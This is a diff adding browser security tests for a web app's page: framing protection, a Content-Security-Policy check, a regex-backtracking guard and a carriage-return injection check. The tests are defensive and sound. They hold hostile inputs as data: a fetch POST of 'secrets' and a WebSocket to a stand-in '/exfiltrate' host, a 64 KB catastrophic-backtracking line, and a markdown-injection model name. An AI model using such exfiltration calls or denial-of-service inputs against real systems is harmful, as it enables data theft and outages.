@@ -782,3 +782,92 @@ def _upload(page: Page, path: Path) -> None:
 
 def _press_upload(page: Page) -> None:
     page.get_by_role("button", name="Upload", exact=True).click()
+
+
+# ---------------------------------------------------------------- issue 12: the page's defences
+
+
+def test_the_page_cannot_be_framed_by_another_page(
+    browser: Browser, stack: RunningStack, tabs: list[Tab]
+) -> None:
+    context = browser.new_context()
+    page = context.new_page()
+    tabs.append(Tab(page, []))
+    page.set_content(f'<iframe id="victim" src="{stack.stack.http_url}/"></iframe>')
+    frame = page.frame_locator("#victim")
+    # The edge's page never loads inside the frame: its sign-in form is not there.
+    expect(page.locator("#victim")).to_be_attached()
+    page.wait_for_load_state("load")
+    embedded = [f for f in page.frames if f is not page.main_frame]
+    assert embedded, "the iframe did not even start to load"
+    assert all(
+        "Netra Apex" not in (f.title() if f.url.startswith("http") else "") for f in embedded
+    )
+    expect(frame.locator("#signin-toggle")).to_have_count(0)
+
+
+def test_the_page_may_connect_only_to_its_own_origin_and_ingest(
+    browser: Browser, stack: RunningStack, tabs: list[Tab]
+) -> None:
+    tab = open_tab(browser, stack.stack.http_url)
+    tabs.append(tab)
+    stranger = "http://127.0.0.1:9/exfiltrate"
+    outcome: dict[str, Any] = tab.page.evaluate(
+        """async (url) => {
+          const violations = [];
+          document.addEventListener("securitypolicyviolation", (e) =>
+            violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
+          let fetched = "sent";
+          try { await fetch(url, { method: "POST", body: "secrets" }); }
+          catch (error) { fetched = String(error); }
+          let socket = "opened";
+          try { new WebSocket(url.replace("http", "ws")); } catch (error) { socket = String(error); }
+          await new Promise((resolve) => setTimeout(resolve, 200));
+          return { violations, fetched, socket };
+        }""",
+        stranger,
+    )
+    blocked = {
+        (v["directive"], v["blocked"].split("/exfiltrate")[0]) for v in outcome["violations"]
+    }
+    assert ("connect-src", "http://127.0.0.1:9") in blocked, outcome
+    assert ("connect-src", "ws://127.0.0.1:9") in blocked, outcome
+    assert outcome["fetched"] != "sent"
+    # The page's own socket is connected (it is allowed).
+    expect(tab.page.locator("#connection-status")).to_have_attribute("data-state", "connected")
+
+
+def test_a_catastrophic_table_separator_line_renders_at_once(
+    browser: Browser, stack: RunningStack, tabs: list[Tab]
+) -> None:
+    """The old separator regex backtracked cubically (an 8 KB line took 55 s in V8,
+    2 KB 3 s): this 64 KB line would run for about a day; a linear check finishes
+    long before the test's timeout."""
+    tab = open_tab(browser, stack.stack.http_url)
+    tabs.append(tab)
+    hostile = "| a |\n" + " " * 32_000 + "-" + " " * 32_000 + "x"
+    result: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, hostile)
+    assert "table" not in result["tags"]
+    good: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, "| a | b |\n| :-- | --: |\n| 1 | 2 |")
+    assert good["tags"].count("td") == 2
+
+
+def test_a_carriage_return_in_a_model_name_stays_inside_its_table_cell(
+    browser: Browser, stack: RunningStack, tabs: list[Tab]
+) -> None:
+    tab = open_tab(browser, stack.stack.http_url)
+    tabs.append(tab)
+    report = (
+        "| model | cost |\n|---|---:|\n"
+        "| evil\r# Injected heading\r--- | $1.00 |\n"
+        "| gpt-4o | $2.00 |\n"
+    )
+    result: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, report)
+    assert "h2" not in result["tags"], result["html"]
+    assert "hr" not in result["tags"], result["html"]
+    assert result["tags"].count("tr") == 3, result["html"]
+    assert "<td>evil # Injected heading ---</td>" in result["html"]
+    assert "Injected heading" in result["text"]
+    # Windows line endings are still line endings.
+    crlf: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, "# Title\r\n\r\ntext")
+    assert "h2" in crlf["tags"]
